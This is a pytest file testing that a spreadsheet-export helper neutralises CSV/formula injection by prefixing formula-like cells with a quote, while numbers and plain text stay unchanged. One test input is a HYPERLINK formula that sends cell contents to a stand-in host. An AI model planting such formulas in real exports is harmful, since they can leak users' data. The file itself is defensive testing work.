"""Cells of CSV and XLSX exports never run as a formula (OWASP, CSV injection); numbers stay numbers."""

import pytest

from naast.core.spreadsheets import inert, inert_row

FORMULA = '=HYPERLINK("http://e.example/?"&A1,"Klik")'


@pytest.mark.parametrize("text", [FORMULA, "+31 6 12345678", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"])
def test_a_text_that_starts_like_a_formula_gets_a_quote(text):
    assert inert(text) == "'" + text


@pytest.mark.parametrize("value", ["Wachtlijst van 12 weken", "<5", "×", "", " =niet aan het begin", "'=al veilig",
                                   12, -12, 3.5, -0.5, None, True])
def test_everything_else_is_left_as_it_is(value):
    assert inert(value) == value and type(inert(value)) is type(value)


def test_a_row_keeps_its_numbers():
    assert inert_row(["=1+1", -3, "tekst", None]) == ["'=1+1", -3, "tekst", None]
